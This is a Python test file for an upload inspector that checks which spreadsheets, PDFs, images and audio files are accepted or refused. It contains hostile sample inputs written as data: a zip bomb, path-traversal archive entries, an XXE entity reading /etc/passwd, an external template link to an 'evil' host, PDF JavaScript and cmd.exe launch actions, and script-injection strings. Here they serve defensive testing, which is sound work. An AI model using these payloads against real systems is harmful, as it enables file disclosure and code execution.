"""FI-1 to FI-3 and D-06: what an upload may be, looked at in a child process."""

import io
import struct

import pytest
from PIL import Image

from jiuzai.foundation.files.inspection.kinds import sniff
from jiuzai.foundation.files.inspection.run import Limits, inspect
from jiuzai.foundation.files.inspection.verdict import Refused
from tests.foundation.files import made


def judged(data):
    return inspect(data, sniff(data))


def drawn(data):
    verdict = judged(data)
    return verdict, Image.open(io.BytesIO(verdict.content))


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (made.workbook(), "xlsx"),
        (made.package({"a/very/deep/name.xml": b"<a/>"}), "xlsx"),
        (made.pdf(), "pdf"),
        (made.pdf(b"3 0 obj<</OpenAction[2 0 R/Fit]>>endobj"), "pdf"),
        (made.pdf_hiding(b"6 0 <</Type/Font>>"), "pdf"),
        (made.old_excel(), "xls"),
        ("姓名,手机\n张三,13800138000\n".encode("gb18030"), "text"),
        ("姓名\n༄བོད་སྐད།\n".encode(), "text"),
        ("姓名\n".encode("utf-16"), "text"),
        (made.WAV, "wav"),
        (made.WEBM, "webm"),
        (made.M4A, "m4a"),
        (made.MP3, "mp3"),
    ],
)
def test_takes_what_people_send(data, kind):
    verdict = judged(data)
    assert (verdict.kind, verdict.refusal, verdict.content) == (kind, "", None)


BOMB = made.package({"xl/worksheets/sheet1.xml": b"\0" * 30_000_000})
MANY = made.package({f"xl/x{n}.xml": b"" for n in range(199)})
HUNDRED_MB = made.package({f"xl/x{n}.bin": b"ab" * 500_000 for n in range(110)})
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><worksheet/>'
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
TEMPLATE = '<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (BOMB, "压缩炸弹"),
        (MANY, "太多东西"),
        (HUNDRED_MB, "100 MB"),
        (made.package({"xl/inner.bin": made.package()}), "又装了别的文件"),
        (made.package({"../../etc/cron.d/x": b"x"}), "不安全的路径"),
        (made.package({"/etc/x": b"x"}), "不安全的路径"),
        (made.package({"xl\\..\\x": b"x"}), "不安全的路径"),
        (made.symlink_package(), "指向别处"),
        (made.locked_package(), "密码"),
        (made.overlapping_package(), "结构不对"),
        (made.package({"xl/vbaProject.bin": b"x"}), "带宏"),
        (made.package({"xl/macrosheets/sheet1.xml": b"<a/>"}), "带宏"),
        (made.package({"xl/externalLinks/externalLink1.xml": b"<a/>"}), "引用了别的文件"),
        (made.package({"xl/embeddings/a.bin": b"x"}), "嵌了别的文件"),
        (made.package({"xl/_rels/workbook.xml.rels": made.RELATIONS.format(TEMPLATE)}), "引用了外部内容"),
        (made.package({"xl/worksheets/sheet1.xml": ENTITIES}), "实体定义"),
        (made.package({"xl/worksheets/sheet1.xml": XXE}), "实体定义"),
        (made.package({"xl/worksheets/sheet1.xml": XXE.decode().encode("utf-16")}), "编码"),
        (made.package() + b"PK", "不完整|结构不对"),
        (made.package()[:-9], "不完整"),
    ],
)
def test_FI_1_refuses_dangerous_packages(data, word):
    refusal = judged(data).refusal
    assert [one in refusal for one in word.split("|")].count(True) == 1, refusal


def test_FI_1_a_directory_that_lies_about_a_size_is_refused():
    data = bytearray(made.package({"xl/a.xml": b"<a>" + b" " * 5000 + b"</a>"}))
    last = data.rfind(b"PK\x01\x02")
    data[last + 24 : last + 28] = struct.pack("<I", 10)
    assert judged(bytes(data)).refusal != ""


def test_FI_1_small_entries_may_compress_well():
    assert judged(made.workbook()).refusal == ""


def test_FI_1_a_plain_zip_is_not_taken():
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("photo.txt", "x")
    assert judged(out.getvalue()).refusal == "不收压缩包。请把里面的文件取出来，一个一个上传。"


@pytest.mark.parametrize(
    "data",
    [
        made.pdf(b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"),
        made.pdf(b"3 0 obj<</S/J#61vaScript/J#53(x)>>endobj"),
        made.pdf_hiding(b"6 0 <</S/JavaScript/JS(x)>>"),
        made.pdf(b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
        made.pdf(b"3 0 obj<</Type/EmbeddedFile>>endobj"),
        made.pdf(b"3 0 obj<</Encrypt 4 0 R>>endobj"),
        made.pdf(b"3 0 obj<</AcroForm<</XFA 4 0 R>>>>endobj"),
        b"%PDF-1.4\n<html><script>alert(1)</script></html>" + made.pdf(),
        made.pdf() + made.package(),
        made.pdf()[:-7],
    ],
)
def test_FI_3_refuses_pdf_that_does_things(data):
    assert judged(data).refusal != ""


@pytest.mark.parametrize(
    "data",
    [
        made.old_excel("_VBA_PROJECT".encode("utf-16-le")),
        made.old_excel("EncryptedPackage".encode("utf-16-le")),
        made.old_excel(b"\x09\x08\x10\x00" + b"\0" * 16 + b"\x2f\x00\x36\x00"),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le"),
        made.MP3 + b"<script>alert(1)</script>",
        made.WEBM + b"V_VP8",
        b"GIF,<script>alert(1)</script>",
    ],
)
def test_refuses_macros_passwords_and_mixtures(data):
    assert judged(data).refusal != ""


@pytest.mark.parametrize(
    "data",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"<!DOCTYPE html><html></html>",
        b"\xef\xbb\xbf \n<html>",
        b"<?xml version='1.0'?><svg/>",
    ],
)
def test_D_06_refuses_pages_and_vector_graphics(data):
    with pytest.raises(Refused, match="网页、矢量图"):
        sniff(data)


@pytest.mark.parametrize("data", [b"MZ\x90\0\x03", b"\x7fELF\x02\x01", b"GIF89a\x01\0\x01\0", b"a\x00b", b"\x1b[2J"])
def test_refuses_what_nobody_knows(data):
    with pytest.raises(Refused, match="认不出"):
        sniff(data)


def test_D_06_a_heic_photo_is_told_what_to_do():
    with pytest.raises(Refused, match="兼容性最佳"):
        sniff(made.HEIC)


def test_D_06_time_and_place_are_told_and_stripped():
    verdict, image = drawn(made.photo_with_place())
    assert verdict.facts == {"taken_at": "2025-03-01T08:30:00+08:00", "place": "29.100000,119.650000"}
    assert dict(image.getexif()) == {}
    assert [word in verdict.content for word in (b"SECRET", b"<script>", b"Exif")] == [False] * 3


def test_D_06_a_photo_is_turned_upright():
    _, image = drawn(made.photo_with_place(orientation=6))
    assert image.size == (30, 40)


def test_D_06_a_moving_picture_keeps_its_first_frame():
    verdict, image = drawn(made.moving_picture())
    red, green, _ = image.convert("RGB").getpixel((10, 10))
    assert (verdict.kind, getattr(image, "n_frames", 1), red > 200, green < 60) == ("jpeg", 1, True, True)


def test_D_06_cmyk_becomes_rgb():
    _, image = drawn(made.picture(mode="CMYK", color=(0, 255, 255, 0)))
    assert image.mode == "RGB"


@pytest.mark.parametrize(
    ("options", "kind", "mode"),
    [
        ({"format": "PNG", "mode": "RGBA", "color": (1, 2, 3, 100)}, "png", "RGBA"),
        ({"format": "PNG", "mode": "P", "color": 3}, "png", "RGB"),
        ({"format": "PNG", "mode": "I;16", "color": 9}, "png", "RGB"),
        ({"format": "PNG", "mode": "L", "color": 9}, "png", "RGB"),
        ({"format": "WEBP"}, "jpeg", "RGB"),
        ({"format": "JPEG", "mode": "L", "color": 9}, "jpeg", "RGB"),
    ],
)
def test_every_ordinary_picture_is_drawn_anew(options, kind, mode):
    verdict, image = drawn(made.picture(**options))
    assert (verdict.kind, image.mode, image.size) == (kind, mode, (40, 30))


def test_D_06_sixty_thousand_by_sixty_thousand_is_refused_unopened():
    verdict = inspect(made.huge_png(), "png", Limits(memory_bytes=256 * 1024 * 1024, cpu_seconds=2))
    assert "60000×60000" in verdict.refusal


@pytest.mark.parametrize("data", [b"\xff\xd8\xff\xe0 not a picture", made.picture()[:200], made.huge_png(500, 500)])
def test_a_damaged_picture_is_refused(data):
    assert judged(data).refusal.startswith("照片打不开")


GAVE_UP = "文件检查时出了问题，没有收下。请重新保存或拍照后再上传。"


@pytest.mark.parametrize(
    "limits",
    [Limits(memory_bytes=8 * 1024 * 1024), Limits(cpu_seconds=0), Limits(wall_seconds=0.001), Limits(output_bytes=5)],
    ids=["memory", "cpu", "clock", "output"],
)
def test_FI_2_a_killed_child_is_a_refusal_and_we_live_on(limits):
    assert inspect(made.picture(), "jpeg", limits).refusal == GAVE_UP
    assert judged(made.picture()).refusal == ""


def test_FI_2_the_child_knows_neither_django_nor_our_environment(monkeypatch):
    import subprocess
    import sys
    from pathlib import Path

    from jiuzai.foundation.files.inspection import run

    probe = (
        f"import sys; sys.path.insert(0, {str(Path(run.__file__).parents[4])!r});"
        "from jiuzai.foundation.files.inspection import look, pictures;"
        "print(sorted(m for m in sys.modules if m.split('.')[0] in {'django', 'psycopg', 'sqlite3'}))"
    )
    answer = subprocess.run([sys.executable, "-I", "-c", probe], capture_output=True, text=True, check=True)
    assert answer.stdout.strip() == "[]"
